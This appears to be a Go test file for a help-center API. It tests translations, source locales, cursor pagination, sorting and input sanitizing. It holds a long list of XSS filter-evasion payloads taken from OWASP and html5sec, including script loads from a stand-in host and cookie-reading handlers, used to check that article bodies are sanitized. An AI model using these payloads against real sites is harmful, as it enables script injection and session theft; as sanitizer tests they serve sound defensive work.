package api_test

import (
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestTranslations(t *testing.T) {
	t.Parallel()
	h := newHelpCenter(t)
	id := h.article(`"title":"Return a lamp","body":"<p>Send it</p>"`)
	path := fmt.Sprintf("%s/articles/%d", help, id)
	later := theClock.Add(time.Hour)
	h.now.Store(&later)
	const laterText = "2026-03-04T06:06:07Z"

	h.get(path + "/translations/missing").want(200).wantJSON(`{"locales":["ja","ko"]}`)
	created := h.post(path+"/translations", `{"translation":{"locale":"ko","title":"램프 반품","body":"<p>보내기<img src=x onerror=alert(1)></p>","draft":true,"outdated":true}}`).want(201)
	created.wantJSON(`{"translation":{"id":%d,"url":"http://helpd.test/api/v2/help_center/articles/%d/translations/ko.json",
		"html_url":"http://helpd.test/hc/ko/articles/%d-%s","source_id":%d,"source_type":"Article","locale":"ko","title":"램프 반품",
		"body":"<p>보내기<img src=\"x\"></p>","outdated":true,"draft":true,"hidden":false,"created_at":%q,"updated_at":%q,"updated_by_id":%d,"created_by_id":%d}}`,
		created.id("translation"), id, id, url.PathEscape("램프-반품"), id, laterText, laterText, h.admin.ID, h.admin.ID)
	h.get(path + "/translations/missing").want(200).wantJSON(`{"locales":["ja"]}`)
	h.get(in("ko", path)).want(200)
	h.anonymous().get(in("ko", path)).wantMissing()
	shown := h.get(path).want(200)
	if got := fmt.Sprint(shown.member("article", "outdated_locales"), shown.member("article", "edited_at"), shown.member("article", "updated_at")); got != "[ko]"+laterText+laterText {
		t.Errorf("%s", got)
	}

	h.put(path+"/translations/KO", `{"translation":{"draft":false,"outdated":false}}`).want(200)
	if got := h.anonymous().get(in("ko", path)).want(200).member("article", "title"); got != "램프 반품" {
		t.Errorf("title %v", got)
	}
	// What is written as it is leaves everything as it was.
	same := later.Add(time.Hour)
	h.now.Store(&same)
	before := h.rows()
	if got := h.put(path+"/translations/ko", `{"translation":{"title":" 램프 반품 ","draft":false}}`).want(200).member("translation", "updated_at"); got != laterText {
		t.Errorf("updated_at %v", got)
	}
	if tables := changed(before, h.rows()); len(tables) > 0 {
		t.Errorf("changed %v", tables)
	}
	h.put(path+"/translations/en-us", `{"translation":{"title":"Send a lamp back","body_markdown":"## How\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n<script>x()</script>"}}`).want(200)
	body := h.get(path).want(200).member("article", "body").(string)
	if !strings.Contains(body, `<h2 id="how">How</h2>`) || !strings.Contains(body, "<td>1</td>") || strings.Contains(body, "script") {
		t.Errorf("Markdown: %s", body)
	}
	if n := h.number("SELECT count(*) FROM translation_revisions r JOIN translations t ON t.account_id = r.account_id AND t.id = r.translation_id WHERE r.account_id = ? AND t.source_id = ? AND r.author_id = ?",
		h.account.ID, id, h.admin.ID); n != 3 {
		t.Errorf("%d revisions, want two of English and one of Korean", n)
	}
	if got := h.typesOfEvents("article"); !slices.Equal(got, []string{"article.published", "article.published"}) {
		t.Errorf("events %v", got)
	}

	list := h.get(path + "/translations").want(200)
	if got := list.ids("translations"); len(got) != 2 || list.member("translations", 0, "locale") != "en-us" {
		t.Errorf("%s", list.body)
	}
	for query, want := range map[string]int{"locales=ko": 1, "locales=ko,EN-us": 2, "locales=ja": 0, "outdated=true": 0, "outdated=false": 2, "draft=true": 0, "draft=false&locales=ko": 1, "page[size]=1": 1} {
		if got := h.get(path + "/translations?" + query).want(200).ids("translations"); len(got) != want {
			t.Errorf("%s: %v", query, got)
		}
	}
	h.post(path+"/translations", `{"translation":{"locale":"ko","title":"x"}}`).wantField("locale", "has a translation already")
	h.post(path+"/translations", `{"translation":{"locale":"fr","title":"x"}}`).wantField("locale", "fr is not enabled")
	h.post(path+"/translations", `{"translation":{"title":"x"}}`).wantField("locale", "cannot be blank")
	h.post(path+"/translations", `{"translation":{"locale":"ja"}}`).wantField("title", "cannot be blank")
	h.put(path+"/translations/ko", `{"translation":{"title":""}}`).wantField("title", "cannot be blank")
	h.put(path+"/translations/ja", `{"translation":{"title":"x"}}`).wantMissing()
	h.get(path + "/translations/ja").wantMissing()
	h.get(help + "/articles/404/translations").wantMissing()
	h.post(help+"/articles/404/translations", `{"translation":{"locale":"ja","title":"x"}}`).wantMissing()

	// A language that is not enabled any more is hidden, and not gone.
	h.put("/api/v2/account/settings", `{"settings":{"localization":{"locale_ids":[1]}}}`).want(200)
	h.get(in("ko", path)).wantMissing()
	if got := h.get(path+"/translations/ko").want(200).member("translation", "hidden"); got != true {
		t.Errorf("hidden %v", got)
	}
	if got := h.anonymous().get(in("en-us", path) + "/translations").want(200).ids("translations"); len(got) != 1 {
		t.Errorf("shown to all: %v", got)
	}
	h.put("/api/v2/account/settings", `{"settings":{"localization":{"locale_ids":[69,1]}}}`).want(200)
	h.get(help + "/locales.json").want(200).wantJSON(`{"locales":["ko","en-us"],"default_locale":"ko"}`)
	if got := h.get(path).want(200).member("article", "locale"); got != "ko" {
		t.Errorf("without a language staff read in the default one: %v", got)
	}

	// Another language becomes the source; then the first may go.
	english := h.get(path + "/translations/en-us").want(200).id("translation")
	gone := fmt.Sprintf("%s/translations/%d", help, english)
	h.delete(gone).wantField("locale", "en-us is the language that others are translated from")
	h.put(path+"/source_locale", `{"article_locale":"ja"}`).wantField("article_locale", "there is no translation for ja")
	h.put(path+"/source_locale", `{"article_locale":" "}`).wantField("article_locale", "cannot be blank")
	h.put(path+"/source_locale", `{"article_locale":"KO"}`).want(200).wantJSON(`{}`)
	h.put(help+"/articles/404/source_locale", `{"article_locale":"ko"}`).wantMissing()
	if got := h.get(path).want(200).member("article", "source_locale"); got != "ko" {
		t.Errorf("source %v", got)
	}
	h.delete(gone).want(204)
	h.delete(gone).wantMissing()
	h.get(in("en-us", path)).wantMissing()
	if n := h.number("SELECT count(*) FROM translation_revisions WHERE account_id = ? AND translation_id = ?", h.account.ID, english); n != 0 {
		t.Errorf("%d revisions are left", n)
	}

	// Sections and categories are translated alike.
	for _, of := range []struct{ path, kind, key string }{{h.section, "sections", "section"}, {h.category, "categories", "category"}} {
		h.put("/api/v2/account/settings", `{"settings":{"localization":{"locale_ids":[1,67]}}}`).want(200)
		h.get(of.path + "/translations/missing").want(200).wantJSON(`{"locales":["ja"]}`)
		second := h.post(of.path+"/translations", `{"translation":{"locale":"ja","title":"返品","body":"説明","draft":true}}`).want(201)
		if second.member("translation", "draft") != false || second.member("translation", "body") != "説明" {
			t.Errorf("%s", second.body)
		}
		if got := h.anonymous().get(in("ja", of.path)).want(200).member(of.key, "description"); got != "説明" {
			t.Errorf("%s: %v", of.kind, got)
		}
		h.put(of.path+"/translations/ja", `{"translation":{"title":"返却"}}`).want(200)
		if got := len(h.get(of.path + "/translations").want(200).ids("translations")); got != 2 {
			t.Errorf("%d translations", got)
		}
		if got := h.get(of.path+"/translations/ja").want(200).member("translation", "title"); got != "返却" {
			t.Errorf("title %v", got)
		}
		h.get(of.path + "/translations/ko").wantMissing()
		h.put(of.path+"/source_locale", fmt.Sprintf(`{"%s_locale":"ja"}`, of.key)).want(200)
		if got := h.get(of.path).want(200).member(of.key, "source_locale"); got != "ja" {
			t.Errorf("source %v", got)
		}
		h.delete(fmt.Sprintf("%s/translations/%d", help, second.id("translation"))).want(400)
		h.user("Agent", h.email("agent-"+of.kind), "agent")
		h.as(h.email("agent-"+of.kind)).put(of.path+"/translations/ja", `{"translation":{"title":"x"}}`).wantForbidden()
	}
}

// vectors are of the OWASP Cheat Sheet Series' "XSS Filter Evasion" list and of
// the HTML5 Security Cheatsheet (html5sec.org): what must not come out as it is.
var vectors = []string{
	`<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
	`<script>alert(1)</script>`,
	`<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`\<a onmouseover="alert(document.cookie)"\>xxs link\</a\>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC= onmouseover="alert('xxs')">`,
	`<IMG onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	"<IMG SRC=\"jav\tascript:alert('XSS');\">",
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC=" &#14; javascript:alert('XSS');">`,
	`<a href="java&#13;script:alert(1)">x</a>`,
	`<a href="&#1;javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="livescript:x">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">`,
	`<BODY onload!#$%&()*~+-_.,:;?@[/|\]^` + "`" + `=alert("XSS")>`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
	`<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<IMG LOWSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<svg/onload=alert('XSS')>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<math href="javascript:alert(1)">x</math>`,
	`<BGSOUND SRC="javascript:alert('XSS');">`,
	`<BR SIZE="&{alert('XSS')}">`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<STYLE>@import'https://xss.example/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">`,
	`<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`,
	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`,
	`<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`,
	`<XSS STYLE="behavior: url(xss.htc);">x</XSS>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')"><TR><TD BACKGROUND="javascript:alert('XSS')">x</TD></TR></TABLE>`,
	`<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
	`<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`<video poster="javascript:alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<select autofocus onfocus=alert(1)>`,
	`<textarea autofocus onfocus=alert(1)>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<a href="#" onclick="alert(1)" id="a" name='x' style="x:expression(alert(1))">x</a>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<template><script>alert(1)</script></template>`,
	`<x/onclick=alert(1)>click`,
	`<a target="_blank" href="JAVASCRIPT&colon;alert(1)">x</a>`,
	`<img src="x` + "`" + `<script>alert(1)</script>"` + "`" + `>`,
	`</textarea><script>alert(1)</script>`,
	`<img/src=x/onerror=alert(1)>`,
	`<plaintext><script>alert(1)</script>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
}

func TestBodiesAreHarmless(t *testing.T) {
	t.Parallel()
	h := newHelpCenter(t)
	path := fmt.Sprintf("%s/articles/%d", help, h.article(`"title":"x"`))
	for _, member := range []string{"body", "body_markdown"} {
		for _, v := range vectors {
			text, _ := json.Marshal("<p>before</p>\n\n" + v + "\n\n<p>behind</p>")
			r := h.put(path+"/translations/en-us", fmt.Sprintf(`{"translation":{%q:%s}}`, member, text))
			r.want(200)
			body := r.member("translation", "body").(string)
			if bad := harmful(body); bad != "" {
				t.Errorf("%s %s gives %s, which has %s", member, v, body, bad)
			}
			again, _ := json.Marshal(body)
			if got := h.put(path+"/translations/en-us", fmt.Sprintf(`{"translation":{"body":%s}}`, again)).want(200).member("translation", "body"); got != body {
				t.Errorf("%s %s: written again it is %s, not %s", member, v, got, body)
			}
		}
	}
	// What writers need stays.
	const kept = `<h2 id="첫-번째">One</h2><table><thead><tr><th style="text-align: center">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>` +
		`<pre><code class="language-go">x &lt; y</code></pre><img src="/hc/article_attachments/5/a.png" alt="A" width="10"><a href="#%EC%B2%AB-%EB%B2%88%EC%A7%B8">up</a>` +
		`<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener">out</a><ol start="3"><li>c</li></ol><blockquote>d</blockquote>` +
		`<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" allowfullscreen=""></iframe><details><summary>e</summary>f</details>`
	text, _ := json.Marshal(kept)
	if got := h.put(path+"/translations/en-us", fmt.Sprintf(`{"translation":{"body":%s}}`, text)).want(200).member("translation", "body"); got != kept {
		t.Errorf("kept %s\nwant %s", got, kept)
	}
	// Names and descriptions are harmless too.
	for _, v := range vectors {
		text, _ := json.Marshal(v)
		r := h.put(h.section, fmt.Sprintf(`{"section":{"description":%s}}`, text)).want(200)
		if bad := harmful(r.member("section", "description").(string)); bad != "" {
			t.Errorf("description %s gives %s", v, r.body)
		}
	}
}

func TestPagesOfTheHelpCenter(t *testing.T) {
	t.Parallel()
	h := newHelpCenter(t)
	ids := map[string]int64{}
	for i, title := range []string{"d", "B", "a", "C", "e"} {
		ids[title] = h.article(fmt.Sprintf(`"title":%q,"position":%d,"created_at":"2026-01-0%dT00:00:00Z"`, title, 9-i, i+1))
	}
	of := func(titles string) (want []int64) {
		for _, t := range titles {
			want = append(want, ids[string(t)])
		}
		return want
	}
	for query, want := range map[string]string{
		"": "eCaBd", "sort_by=position&sort_order=desc": "dBaCe", "sort_by=title": "aBCde", "sort_by=title&sort_order=desc": "edCBa", "sort_by=created_at": "dBaCe",
		"sort_by=updated_at": "dBaCe", "sort_by=edited_at&sort_order=desc": "eCaBd", "page[size]=100&sort=-title": "edCBa", "page[size]=100": "eCaBd", "start_time=1772600767": "eCaBd", "start_time=1772600768": "",
	} {
		if got := h.get(help + "/en-us/articles?" + query).want(200).ids("articles"); !slices.Equal(got, of(want)) {
			t.Errorf("%s: %v, want %v", query, got, of(want))
		}
	}
	h.put(h.section, `{"section":{"sorting":"title"}}`).want(200)
	if got := h.get(h.section + "/articles").want(200).ids("articles"); !slices.Equal(got, of("aBCde")) {
		t.Errorf("in the section's order: %v", got)
	}
	first := h.get(help + "/en-us/articles.json?page=2&per_page=2&sort_by=title").want(200)
	if got := string(first.body); !strings.HasSuffix(strings.TrimSpace(got), `"next_page":"http://helpd.test/api/v2/help_center/en-us/articles?page=3&per_page=2&sort_by=title","previous_page":"http://helpd.test/api/v2/help_center/en-us/articles?page=1&per_page=2&sort_by=title","count":5}`) ||
		!strings.Contains(got, `"page":2,"page_count":3,"per_page":2,"sort_by":"title","sort_order":"asc"`) {
		t.Errorf("%s", got)
	}
	if got := h.get(help + "/articles").member("per_page"); got != json.Number("30") {
		t.Errorf("per_page %v", got)
	}

	// There and back by the links.
	for _, sort := range []string{"", "title", "-title", "created_at", "updated_at", "-edited_at"} {
		all := h.get(help + "/en-us/articles?page[size]=100&sort=" + sort).want(200).ids("articles")
		var there, back []int64
		r := h.get(help + "/en-us/articles?page[size]=2&sort=" + sort).want(200)
		if !strings.HasPrefix(string(r.body), `{"meta":`) {
			t.Errorf("%s", r.body)
		}
		start, end := r.links()["first"], r.links()["last"]
		for {
			there = append(there, r.ids("articles")...)
			next, more := r.links()["next"]
			if more != (r.member("meta", "has_more") == true) || more != (r.header.Get("Link") == "<"+next+`>; rel="next"`) {
				t.Errorf("%s: next %q, %s", sort, next, r.body)
			}
			if !more {
				break
			}
			r = h.get(h.here(next)).want(200)
		}
		for r = h.get(h.here(end)).want(200); ; {
			back = append(append([]int64{}, r.ids("articles")...), back...)
			prev, more := r.links()["prev"]
			if !more {
				break
			}
			r = h.get(h.here(prev)).want(200)
		}
		if !slices.Equal(there, all) || !slices.Equal(back, all) {
			t.Errorf("%s: there %v, back %v, want %v", sort, there, back, all)
		}
		if got := h.get(h.here(start)).want(200).ids("articles"); !slices.Equal(got, all[:2]) {
			t.Errorf("first %v", got)
		}
		if _, ok := h.get(h.here(start)).want(200).links()["prev"]; ok {
			t.Error("there is nothing before the first page")
		}
	}
	empty := h.get(help + "/ja/articles?page[size]=2").want(200)
	empty.wantJSON(`{"meta":{"has_more":false,"after_cursor":null,"before_cursor":null},"links":{"first":%q,"last":%q},"articles":[]}`, empty.links()["first"], empty.links()["last"])
	h.get(help + "/articles?page[after]=x").want(400)
	h.get(help + "/articles?page[size]=0").want(400)
	h.get(help+"/articles?sort_by=votes").wantField("sort_by", "votes is none of position, title, created_at, updated_at and edited_at")
	h.get(help+"/articles?start_time=-1").wantField("start_time", "is no time in seconds since 1970")
	h.get(help + "/users/404/articles").wantMissing()
	h.get(help + "/users/x/articles").want(400)
	if got := h.get(help + "/users/me/articles").want(200).ids("articles"); len(got) != 5 {
		t.Errorf("my articles: %v", got)
	}
	h.anonymous().get(help + "/en-us/users/me/articles").want(401)
	h.user("Customer", h.email("customer"), "end-user")
	other := h.user("Other", h.email("other"), "end-user")
	h.as(h.email("customer")).get(fmt.Sprintf("%s/en-us/users/%d/articles", help, other)).wantMissing()

	// Across languages one key is not one request.
	body := `{"section":{"name":"Same"}}`
	one := h.with("Idempotency-Key", "same").post(in("en-us", h.category)+"/sections", body).want(201)
	if again := h.with("Idempotency-Key", "same").post(in("en-us", h.category)+"/sections", body).want(201); again.id("section") != one.id("section") {
		t.Error("made twice")
	}
	h.with("Idempotency-Key", "same").post(in("ja", h.category)+"/sections", body).want(400)
}

// links are those of a page by cursor.
func (r *result) links() map[string]string {
	r.t.Helper()
	var body struct{ Links map[string]string }
	r.json(&body)
	return body.Links
}
